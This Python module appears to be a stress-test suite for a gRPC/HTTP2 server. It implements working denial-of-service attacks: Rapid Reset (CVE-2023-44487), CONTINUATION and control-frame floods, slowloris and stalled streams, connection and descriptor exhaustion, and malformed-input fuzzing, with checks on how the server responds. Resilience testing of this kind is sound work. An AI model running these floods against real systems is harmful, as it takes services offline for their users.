"""Attacks on connections: floods of frames, and connections that say nothing."""

import os
import socket
import struct
import threading
import time

import h2
import messages
from attack import REFUSED, Target, attack
from memory_attacks import connected

RESET = struct.pack(">I", 8)


def reset_again_and_again(target: Target, path: str, message: bytes) -> None:
    """CVE-2023-44487: resets each call as soon as it is sent. Reconnects when closed."""
    resets = 0
    block = h2.call_headers(path)
    end = 0 if path == messages.SAMPLE_STREAM else h2.END_STREAM
    while target.time_left() > 0:
        with connected(target) as connection:
            while target.time_left() > 0 and not connection.going_away:
                parts = []
                for _ in range(50):
                    number = connection.next_stream()
                    parts.append(h2.frame(h2.HEADERS, h2.END_HEADERS, number, block))
                    parts.append(h2.frame(h2.DATA, end, number, h2.prefixed(message)))
                    parts.append(h2.frame(h2.RST_STREAM, 0, number, RESET))
                connection.write(b"".join(parts), seconds=2)
                resets += 50
                connection.poll(0)
        time.sleep(0.01)
    target.notes.append(f"{resets} resets")


@attack("Sample, reset at once, over and over (CVE-2023-44487)", holds=True, peak_mib=256)
def rapid_reset(target: Target) -> None:
    reset_again_and_again(target, messages.SAMPLE, messages.sample(messages.tensor(1, 100)))


@attack("SampleStream, reset at once, over and over", holds=True, peak_mib=256)
def rapid_reset_stream(target: Target) -> None:
    reset_again_and_again(target, messages.SAMPLE_STREAM, b"\x08\x01")


@attack("a long header in CONTINUATION frames of 64 bytes, 8 times (CVE-2023-33953)", holds=True,
        peak_mib=256)  # fmt: skip
def continuation(target: Target) -> None:
    """If a header announces a value of a GiB, gRPC copies all that has come with each frame."""
    begun = h2.call_headers(messages.SAMPLE) + b"\x00\x01x\x7f\x81\xff\xff\xff\x03"
    connections: list[h2.Connection | None] = [None] * 8
    pieces = h2.frame(h2.CONTINUATION, 0, 1, b"y" * 55) * 60
    while target.time_left() > 0:
        begin = time.monotonic()
        for at, connection in enumerate(connections):
            try:
                if connection is None:
                    connections[at] = connection = h2.Connection(target.address)
                    connection.write(h2.frame(h2.HEADERS, 0, 1, begun))
                connection.write(pieces, seconds=0.05)
            except (h2.Closed, OSError):
                if connection is not None and connection.closed:
                    target.codes["closed"] += 1
                    target.sent += connection.sent
                    connections[at] = None
        # 1.9 MB/s in all.
        time.sleep(max(0.0, 8 * len(pieces) / 1.9e6 - (time.monotonic() - begin)))
    for connection in connections:
        if connection is not None:
            target.sent += connection.sent
            connection.close()


@attack("headers without an end, SETTINGS not acknowledged", holds=True, peak_mib=256)
def endless_headers(target: Target) -> None:
    with connected(target, acknowledge=False) as connection:
        block = h2.header("x", "y" * 120) * 120
        connection.write(h2.frame(h2.HEADERS, 0, 1, h2.call_headers(messages.SAMPLE)))
        while target.time_left() > 0 and connection.sent < 320e6:
            connection.write(h2.frame(h2.CONTINUATION, 0, 1, block) * 16, seconds=2)


@attack("SETTINGS frames without end, their answers not read", holds=True, peak_mib=256)
def settings_flood(target: Target) -> None:
    flood(target, h2.settings(header_table_size=4096))


@attack("PING frames without end, their answers not read", holds=True, peak_mib=256)
def ping_flood(target: Target) -> None:
    flood(target, h2.frame(h2.PING, 0, 0, bytes(8)))


@attack("PRIORITY frames without end (CVE-2019-9513)", holds=True, peak_mib=256)
def priority_flood(target: Target) -> None:
    flood(target, h2.frame(h2.PRIORITY, 0, 1, bytes(5)))


@attack("empty DATA frames without end (CVE-2019-9518)", holds=True, peak_mib=256)
def empty_data_flood(target: Target) -> None:
    flood(target, h2.frame(h2.DATA, 0, 1), call=True)


def flood(target: Target, frame: bytes, call: bool = False) -> None:
    """Sends one frame over and over; with `call`, a frame of a call."""
    while target.time_left() > 0:
        with connected(target) as connection:
            if call:
                connection.open(messages.SAMPLE)
            while target.time_left() > 0:
                connection.write(frame * 500, seconds=max(0.1, target.time_left()), read=False)
        time.sleep(0.05)


@attack("200 messages that come byte by byte", holds=True, peak_mib=256)
def slow_loris(target: Target) -> None:
    connections = []
    for _ in range(200):
        try:
            connection = h2.Connection(target.address)
            number = connection.open(messages.SAMPLE)
            connection.send(number, struct.pack(">BI", 0, 1000))
        except (h2.Closed, OSError):
            target.codes["refused"] += 1
            continue
        connections.append((connection, number))
    while target.time_left() > 0:
        for connection, number in connections:
            try:
                connection.send(number, b"\x00", seconds=0.1)
            except h2.Closed:
                pass
        time.sleep(0.2)
    for connection, _ in connections:
        target.sent += connection.sent
        connection.close()


def stand_still(address: str) -> dict[str, h2.Connection]:
    """Connections that each leave something unfinished, by what that is."""
    vocab = 200_000
    large = h2.prefixed(messages.sample(messages.tensor(1, vocab), outputs=logprobs(vocab)))
    small = messages.sample(messages.tensor(1, 2048), outputs=logprobs(2048))
    made = {}
    made["a message"] = connection = h2.Connection(address)
    number = connection.open(messages.SAMPLE)
    connection.send(number, struct.pack(">BI", 0, 1000) + bytes(999))
    made["a call without a message"] = connection = h2.Connection(address)
    connection.open(messages.SAMPLE)
    made["headers"] = connection = h2.Connection(address)
    connection.write(h2.frame(h2.HEADERS, 0, 1, h2.call_headers(messages.SAMPLE)))
    made["a frame"] = connection = h2.Connection(address)
    connection.write(h2.frame(h2.PING, 0, 0, bytes(8))[:-1])
    made["an answer"] = connection = h2.Connection(address, window=10, credit=False)
    connection.start(messages.SAMPLE, small)
    made["an answer without a window"] = connection = h2.Connection(address, window=0)
    connection.start(messages.SAMPLE, small)
    made["what is not read"] = connection = h2.Connection(address)
    # Make the sockets hold less than the answers.
    connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
    numbers = [connection.open(messages.SAMPLE) for _ in range(10)]
    for number in numbers:
        connection.send(number, large)
    # From here on the client reads nothing.
    ends = (h2.frame(h2.DATA, h2.END_STREAM, number) for number in numbers)
    connection.write(b"".join(ends), read=False)
    return made


def logprobs(count: int) -> object:
    return messages.message("OutputOptions", top_logprobs=count)


@attack("messages, headers and answers that stand still, beside a slow client", holds=True,
        flags=("--stall-timeout-ms=400",), peak_mib=256)  # fmt: skip
def stalls(target: Target) -> None:
    """The server closes each in time, but no client that sends and reads slowly, even for longer,
    and no stream that delays its first message."""
    made = stand_still(target.address)
    patient = h2.Connection(target.address)
    patient.open(messages.SAMPLE_STREAM)
    vocab = 60_000
    request = h2.prefixed(messages.sample(messages.tensor(1, vocab), outputs=logprobs(vocab)))
    with connected(target, window=16384, credit=False) as slow:
        number = slow.open(messages.SAMPLE)
        for at in range(0, len(request), 8192):
            slow.send(number, request[at : at + 8192], end=at + 8192 >= len(request))
            time.sleep(0.05)
        stream = slow.streams[number]
        more = struct.pack(">I", 16384)
        while stream.code is None and not slow.closed:
            slow.poll(0.05)
            slow.write(b"".join(h2.frame(h2.WINDOW_UPDATE, 0, n, more) for n in (0, number)))
            time.sleep(0.05)
        target.check(stream.code == "OK", f"the slow client got {stream.code}")
    until = time.monotonic() + 5
    for what, connection in made.items():
        while not connection.closed and time.monotonic() < until:
            connection.poll(0.1)
        target.check(connection.closed, f"{what} may stand still")
        target.sent += connection.sent
        connection.close()
    patient.poll(0.1)
    target.check(not patient.closed, "a stream may not wait with its first message")
    patient.close()


def connect_silently(target: Target) -> socket.socket | None:
    host, port = target.address.rsplit(":", 1)
    made = socket.socket()
    made.settimeout(1)
    try:
        made.connect((host, int(port)))
    except OSError:
        target.codes["refused"] += 1
        made.close()
        return None
    return made


@attack("1,100 silent connections at a limit of 1,024 descriptors, closed again", holds=True,
        descriptors=1024)  # fmt: skip
def silent_connections(target: Target) -> None:
    made = [connect_silently(target) for _ in range(1100)]
    time.sleep(min(1.0, target.seconds / 2))
    for connection in made:
        if connection is not None:
            connection.close()
    time.sleep(0.5)


@attack("connections opened and closed as fast as it goes", holds=True, descriptors=1024,
        cores=1.5)  # fmt: skip
def connection_churn(target: Target) -> None:
    counts = [0] * 4

    def churn(thread: int) -> None:
        while target.time_left() > 0:
            made = connect_silently(target)
            if made is not None:
                counts[thread] += 1
                made.close()

    threads = [threading.Thread(target=churn, args=(n,)) for n in range(len(counts))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    target.notes.append(f"{sum(counts)} connections")
    time.sleep(0.5)


def many_streams(target: Target, path: str, body: bytes) -> None:
    """10,000 streams that stay open, as many on each connection as the server allows."""
    numbers = 0
    with connected(target) as connection:
        for _ in range(10_000):
            if target.time_left() == 0 or connection.closed or connection.going_away:
                break
            number = connection.open(path)
            connection.send(number, body)
            numbers += 1
        while target.time_left() > 0 and not connection.closed:
            connection.poll(target.time_left())
    target.notes.append(f"{numbers} streams")


@attack("10,000 health watches", holds=True, peak_mib=256)
def health_watches(target: Target) -> None:
    many_streams(target, messages.HEALTH_WATCH, h2.prefixed(b""))


@attack("10,000 reflection streams", holds=True, peak_mib=256)
def reflection_streams(target: Target) -> None:
    many_streams(target, messages.REFLECTION, h2.prefixed(b"\x3a\x00"))


@attack("calls of each method with random bytes, and with none", holds=True,
        codes=(*REFUSED, "OK", "NOT_FOUND", "FAILED_PRECONDITION"))  # fmt: skip
def malformed(target: Target) -> None:
    """A client's mistake is INVALID_ARGUMENT, in every method."""
    native = ("Sample", "VerifyDraft", "Describe", "GetServerInfo", "RegisterRegion")
    paths = [messages.NATIVE + name for name in native] + [messages.MODEL_INFER]
    with connected(target) as connection:
        for path in paths:
            method = path.split("/")[-1]
            code = connection.call(path, b"\xff" * 20, seconds=5).code
            target.check(code == "INVALID_ARGUMENT", f"{method} of no protobuf: {code}")
            code = connection.finish(connection.open(path, end=True), 5).code
            # For the server, that may be an empty message.
            mistaken = code in ("INVALID_ARGUMENT", "NOT_FOUND", "OK")
            target.check(mistaken, f"{method} without a message: {code}")
        connection.codes.clear()
        for _ in range(300):
            if target.time_left() == 0:
                break
            for path in paths:
                connection.call(path, os.urandom(64), seconds=5)
